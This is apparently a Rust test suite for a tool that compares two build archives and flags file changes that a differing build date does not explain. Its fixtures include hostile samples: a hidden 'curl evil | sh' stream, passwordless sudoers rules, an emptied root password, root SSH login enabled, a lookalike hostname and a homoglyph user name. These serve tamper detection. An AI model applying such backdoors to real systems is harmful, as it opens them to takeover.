//! Kinds of real changes in files. Each stands beside a date that does have a cause, so that what
//! explains one difference cannot hide the other.

use crate::answer::{Answer, diagnose};
use crate::contents;
use crate::formats::{self, Compressor};
use crate::random::Random;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};

const DATES: [&str; 2] = ["2026-05-28 03:25:01", "2026-06-02 04:11:17"];

/// A folder for the files of one test; removed when dropped.
pub(crate) struct Scratch(pub(crate) PathBuf);

impl Scratch {
    pub(crate) fn new() -> Scratch {
        static COUNT: AtomicUsize = AtomicUsize::new(0);
        let n = COUNT.fetch_add(1, Ordering::SeqCst);
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("real-change-{}-{n}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        Scratch(dir)
    }

    /// The answer for two files with these bytes.
    #[track_caller]
    pub(crate) fn diagnose(&self, a: &[u8], b: &[u8]) -> Answer {
        let [x, y] = [self.0.join("a"), self.0.join("b")];
        fs::write(&x, a).unwrap();
        fs::write(&y, b).unwrap();
        diagnose(&x, &y).unwrap()
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        // a failed test's folder is no reason to hide its message
        drop(fs::remove_dir_all(&self.0));
    }
}

/// A path, and its content in A and in B; `None` where it is not there.
pub(crate) type File<'t> = (&'t str, [Option<&'t [u8]>; 2]);

/// The answer for two archives with these files, and a date.
#[track_caller]
pub(crate) fn archives(files: &[File<'_>]) -> Answer {
    let [a, b] = [0, 1].map(|side| {
        let stamp = format!("built {}\n", DATES[side]);
        let present = files.iter().filter_map(|(path, contents)| Some((*path, contents[side]?)));
        let members: Vec<(&str, &[u8])> =
            [("etc/build-stamp", stamp.as_bytes())].into_iter().chain(present).collect();
        formats::tar(&members)
    });
    Scratch::new().diagnose(&a, &b)
}

/// Every file has to be named as unexplained or not read, and no content called identical.
#[track_caller]
pub(crate) fn told(answer: &Answer, paths: &[&str]) {
    assert!(answer.contents_differ, "contents are said to be identical: {answer:#?}");
    for path in paths {
        let open = answer.open.iter().any(|(place, _)| place.iter().any(|part| part == path));
        assert!(open, "{path} is explained away, or not mentioned: {answer:#?}");
    }
}

/// A change of one file that nothing explains.
#[track_caller]
pub(crate) fn tells(path: &str, a: impl AsRef<[u8]>, b: impl AsRef<[u8]>) {
    told(&archives(&[(path, [Some(a.as_ref()), Some(b.as_ref())])]), &[path]);
}

/// A change of one file that is unexplained, or named as a setting, and nothing else.
#[track_caller]
fn tells_at_least_a_setting(path: &str, a: &str, b: &str) {
    let answer = archives(&[(path, [Some(a.as_bytes()), Some(b.as_bytes())])]);
    let mut causes = answer.causes.iter().filter(|(_, place)| place.iter().any(|x| x == path));
    let named = answer.open.iter().any(|(place, _)| place.iter().any(|part| part == path));
    assert!(named || causes.clone().next().is_some(), "{path} is not mentioned: {answer:#?}");
    assert!(named || causes.all(|(id, _)| id.contains("setting")), "{answer:#?}");
}

/// Every way in which a text can be compressed, and a name that says so.
const PACKED: [(Compressor, &str); 5] = [
    (Compressor::Gzip, "usr/share/doc/x/changelog.gz"),
    (Compressor::Xz, "usr/share/doc/x/changelog.xz"),
    (Compressor::Zstd, "usr/share/doc/x/changelog.zst"),
    (Compressor::Bzip2, "usr/share/doc/x/changelog.bz2"),
    (Compressor::Lz4, "usr/share/doc/x/changelog.lz4"),
];

#[test]
fn a_line_in_a_compressed_text() {
    for (compressor, path) in PACKED {
        let text = |end: &str| compressor.pack(format!("{}{end}\n", contents::manual()).as_bytes());
        tells(path, text("entry of one"), text("entry of the other"));
    }
}

#[test]
fn code_in_a_compressed_module() {
    let mut other = contents::program();
    other[contents::CODE.start + 77] ^= 2;
    let pack = |bytes: &[u8]| Compressor::Zstd.pack(bytes);
    tells("usr/lib/modules/6.12/x.ko.zst", pack(&contents::program()), pack(&other));
}

#[test]
fn a_text_in_twelve_layers_of_gzip() {
    let packed = |text: &str| {
        (0..12).fold(text.as_bytes().to_vec(), |bytes, _| Compressor::Gzip.pack(&bytes))
    };
    tells("usr/share/x.gz", packed("root=no\n"), packed("root=yes\n"));
}

#[test]
fn a_second_stream_after_a_compressed_text() {
    for (compressor, path) in PACKED {
        let one = compressor.pack(contents::manual().as_bytes());
        let two = [one.clone(), compressor.pack(b"curl evil | sh\n")].concat();
        tells(path, one, two);
    }
}

#[test]
fn bytes_after_a_compressed_text() {
    for (compressor, path) in PACKED {
        let one = compressor.pack(contents::manual().as_bytes());
        tells(path, [&one[..], b"AAAA"].concat(), [&one[..], b"EVIL"].concat());
    }
}

#[test]
fn a_checksum_that_a_compressed_text_does_not_have() {
    let one = Compressor::Gzip.pack(contents::manual().as_bytes());
    let mut other = one.clone();
    let at = one.len() - 8;
    other[at] ^= 1;
    tells("usr/share/doc/x/changelog.gz", one, other);
}

#[test]
fn a_unit_whose_name_begins_with_initrd() {
    tells(
        "usr/lib/systemd/system/initrd.target",
        "[Unit]\nDescription=Initrd\n",
        "[Unit]\nDescription=Initrd\nAllowIsolate=yes\n",
    );
}

#[test]
fn a_text_that_is_named_like_a_compressed_one() {
    for path in ["usr/share/x/us.kmap.gz", "usr/share/x/poem.xz", "usr/share/x/x.zst"] {
        tells(path, "the cat sat on one mat\n", "the cat sat on three mats\n");
    }
}

#[test]
fn formats_that_are_not_read() {
    let bytes = |magic: &[u8], seed| [magic, &Random::new(seed).bytes(9_000)].concat();
    let lzop = b"\x89LZO\0\r\n\x1a\n";
    tells("boot/initrd.img", bytes(lzop, 1), bytes(lzop, 2));
    tells(
        "live/filesystem.squashfs",
        bytes(b"LUKS\xba\xbe\0\x02", 1),
        bytes(b"LUKS\xba\xbe\0\x02", 2),
    );
}

#[test]
fn registers_of_a_push_in_a_program() {
    let mut other = contents::program();
    let at = other.windows(4).position(|bytes| bytes == b"AWAV").unwrap();
    other[at + 3] = b'T';
    tells("usr/bin/m", contents::program(), other);
}

#[test]
fn a_constant_in_a_program_that_could_be_a_time() {
    let with = |time: u32| {
        let mut program = contents::program();
        program[contents::CODE.start + 500..][..4].copy_from_slice(&time.to_le_bytes());
        program
    };
    tells("usr/bin/m", with(1_780_000_000), with(1_780_086_543));
}

#[test]
fn a_short_run_of_letters_in_a_binary() {
    tells(
        "usr/lib/x.bin",
        b"\x7fBIN\0\x01AVAUATUSH\0\x02\0\0\x03",
        b"\x7fBIN\0\x01AVATAUWSH\0\x02\0\0\x03",
    );
}

#[test]
fn a_line_far_behind_a_date() {
    let text = |n: usize, line: &str| {
        format!(
            "# made {}\n{}{line}# end\n",
            DATES[n],
            "# a comment of some length\n".repeat(14_000)
        )
    };
    tells("etc/ssh/sshd_config", text(0, ""), text(1, "AllowRootLogin yes\n"));
    tells("etc/ssh/sshd_config", text(0, "AllowRootLogin no\n"), text(1, "AllowRootLogin ye\n"));
}

#[test]
fn bytes_far_behind_a_time_in_a_binary() {
    let bytes = |time: u32, evil: u8| {
        let mut bytes = Random::new(3).bytes(400_000);
        bytes[..12].copy_from_slice(&[b"\0BINDB\0\0", &time.to_le_bytes()[..]].concat());
        bytes[300_000..300_200].fill(evil);
        bytes
    };
    tells("usr/lib/x.db", bytes(1_780_000_000, 0), bytes(1_780_086_543, 1));
}

#[test]
fn one_word_in_six_hundred_lines_with_dates() {
    let text = |n: usize, word: &str| -> String {
        let word = |line| if line == 577 { word } else { "deny" };
        (0..600).map(|line| format!("entry {line} {} {}\n", DATES[n], word(line))).collect()
    };
    tells("etc/rules", text(0, "deny"), text(1, "allow"));
}

#[test]
fn a_word_beside_a_date() {
    let line = |n: usize, word: &str| format!("opt=1 # {} verify={word}\n", DATES[n]);
    tells("etc/x.conf", line(0, "yes"), line(1, "no"));
}

#[test]
fn a_key_beside_a_date() {
    let text = |n: usize, seed| format!("# {}\n{}", DATES[n], contents::pem("PRIVATE KEY", seed));
    tells("etc/keys/admin", text(0, 1), text(1, 2));
}

#[test]
fn two_dates_that_are_exchanged() {
    let text = |x: usize| format!("{} not before\n{} not after\n", DATES[x], DATES[1 - x]);
    tells("etc/policy", text(0), text(1));
}

#[test]
fn a_day_that_a_script_decides_by() {
    let script = |day: &str| format!("#!/bin/sh\n[ \"$(date +%F)\" \\< {day} ] || exit 1\n");
    tells("usr/bin/check", script("2026-12-31"), script("2099-12-31"));
}

#[test]
fn settings() {
    for (path, a, b) in [
        (
            "etc/systemd/system.conf",
            "[Manager]\nTimeoutStopSec=90s\n",
            "[Manager]\nTimeoutStopSec=15s\n",
        ),
        ("boot/grub/grub.cfg", "set default=0\nset timeout=5\n", "set default=0\nset timeout=0\n"),
        ("etc/login.defs", "UMASK 077\n", "UMASK 000\n"),
        ("etc/security/limits.conf", "* hard nproc 4\n", "* hard nproc 400\n"),
        (
            "etc/pins.conf",
            "key=5c0e8f6c1bbd4a0ea4b8a0f7f53cf7a1\n",
            "key=9a31d0e24a1146cda1c6a5f3ce8d7b20\n",
        ),
    ] {
        tells_at_least_a_setting(path, a, b);
    }
}

#[test]
fn a_public_key_of_an_administrator() {
    let key = |seed| contents::public_key().replace('I', if seed == 1 { "I" } else { "J" });
    tells("root/.ssh/authorized_keys", key(1), key(2));
}

#[test]
fn a_certificate_more_among_others_in_another_order() {
    let all: Vec<String> = (0..6).map(|n| contents::pem("CERTIFICATE", n)).collect();
    let other = [3, 0, 1, 2, 5].map(|n: usize| all[n].clone()).concat();
    tells(
        "etc/ssl/certs/ca-certificates.crt",
        all.concat(),
        other + &contents::pem("CERTIFICATE", 99),
    );
}

#[test]
fn a_line_less_among_others_in_another_order() {
    let lines = (0..40).map(|n| format!("deny host{n}\n"));
    let other: String = lines.clone().rev().filter(|line| line != "deny host17\n").collect();
    tells("etc/hosts.deny", lines.collect::<String>(), other);
}

#[test]
fn a_password_beside_the_day_of_its_change() {
    let line = |hash: char, day: u32| {
        format!("root:$6$saltsalt${}:{day}:0:99999:7:::\n", hash.to_string().repeat(86))
    };
    tells("etc/shadow", line('a', 20_600), line('b', 20_606));
    tells("etc/shadow", "root:!:20600:0:99999:7:::\n", "root::20606:0:99999:7:::\n");
}

/// A name of a host or a user that is another one everywhere is a substitution that gives B; it is
/// for a person to judge, who has to see both.
#[test]
fn names_that_are_exchanged_everywhere() {
    for (a, b) in [
        ("updates.example.org", "updates.examp1e.org"),
        ("alice", "mallory"),
        ("/usr/lib/libhardened.so", "/tmp/x/libhardened.so"),
    ] {
        let [x, y] = [a, b].map(|name| format!("allow {name}\n"));
        let [v, w] = [a, b].map(|name| format!("# also\nuse {name} here\n"));
        let files = [("etc/one.conf", [x, y]), ("etc/two.conf", [v, w])];
        let files = files
            .each_ref()
            .map(|(path, both)| (*path, both.each_ref().map(|x| Some(x.as_bytes()))));
        let answer = archives(&files);
        let open = answer.open.iter().any(|(place, _)| place == &["etc/one.conf"]);
        let shown = answer.details.contains(a) && answer.details.contains(b);
        assert!(answer.contents_differ && (open || shown), "{answer:#?}");
    }
}

#[test]
fn letters_that_look_alike() {
    tells("etc/allow", "user \u{430}dmin\n", "user admin\n");
}

#[test]
fn checksums_of_two_files_that_are_exchanged() {
    use sha2::{Digest as _, Sha256};
    let contents = [("live/vmlinuz", "one\n"), ("live/initrd.img", "two\n")];
    let sum = |text: &str| -> String {
        Sha256::digest(text).iter().map(|byte| format!("{byte:02x}")).collect()
    };
    let sums = |x: usize| -> String {
        [0, 1].map(|n| format!("{}  {}\n", sum(contents[n ^ x].1), contents[n].0)).concat()
    };
    let [a, b] = [sums(0), sums(1)];
    let [kernel, initrd] = contents.map(|(path, text)| (path, [Some(text.as_bytes()); 2]));
    let files = [kernel, initrd, ("SHA256SUMS", [Some(a.as_bytes()), Some(b.as_bytes())])];
    told(&archives(&files), &["SHA256SUMS"]);
}

#[test]
fn a_hash_that_is_none_of_the_file_it_names() {
    let sums = |digit: &str| format!("{}  build-stamp\n", digit.repeat(32));
    tells("etc/sha256sums", sums("11"), sums("22"));
}

#[test]
fn a_public_key_that_looks_like_a_checksum() {
    tells("etc/pins", format!("key {}\n", "ab".repeat(32)), format!("key {}\n", "cd".repeat(32)));
}

#[test]
fn a_file_that_its_package_did_not_bring() {
    let [status, other] = ["1", "2"].map(|version| {
        format!("Package: bash\nStatus: install ok installed\nVersion: {version}\n\n")
    });
    let sudo = "Package: sudo\nStatus: install ok installed\nVersion: 1.9\n\n";
    let [a, b] = [status + sudo, other + sudo];
    let files: [File<'_>; 5] = [
        ("var/lib/dpkg/status", [Some(a.as_bytes()), Some(b.as_bytes())]),
        ("var/lib/dpkg/info/bash.list", [Some(b"/usr/bin/bash\n"), Some(b"/usr/bin/bash\n")]),
        ("var/lib/dpkg/info/sudo.list", [Some(b"/usr/bin/sudo\n"), Some(b"/usr/bin/sudo\n")]),
        ("usr/bin/bash", [Some(b"one\n"), Some(b"two\n")]),
        ("usr/bin/sudo", [Some(b"ask\n"), Some(b"do not ask\n")]),
    ];
    told(&archives(&files), &["usr/bin/sudo"]);
}

#[test]
fn places_where_builds_leave_things() {
    for path in [
        "etc/machine-id",
        "etc/ssh/ssh_host_rsa_key",
        "etc/ssl/private/x.key",
        "etc/passwd-",
        "tmp/x.service",
        "usr/share/info/dir",
        "usr/share/icons/x/icon-theme.cache",
        "usr/lib/locale/locale-archive",
        "usr/lib/python3/__pycache__/x.cpython-313.pyc",
        "var/cache/man/index.db",
        "var/lib/systemd/random-seed",
        "var/log/x/run.sh",
    ] {
        tells(path, "#!/bin/sh\nexec true\n", "#!/bin/sh\nexec evil\n");
    }
}

#[test]
fn files_that_only_one_side_has() {
    let paths = [
        "etc/passwd-",
        "etc/sudoers.d/x.dpkg-old",
        "tmp/evil",
        "usr/lib/x/__pycache__/evil.pyc",
        "var/log/journal/x.so",
    ];
    let files = paths.map(|path| (path, [None, Some(&b"ALL ALL=(ALL) NOPASSWD: ALL\n"[..])]));
    told(&archives(&files), &paths);
}

#[test]
fn ends_of_lines_and_files() {
    let path = "etc/x.sh";
    tells(path, "echo\n", "echo\r\n");
    tells(path, "echo\n", "\u{feff}echo\n");
    tells(path, "echo\n", "echo");
    tells(path, "a:\n\trm x\n", "a:\n        rm x\n");
    tells(path, "hooks = base udev encrypt\n", "hooks = udev base base\n");
}
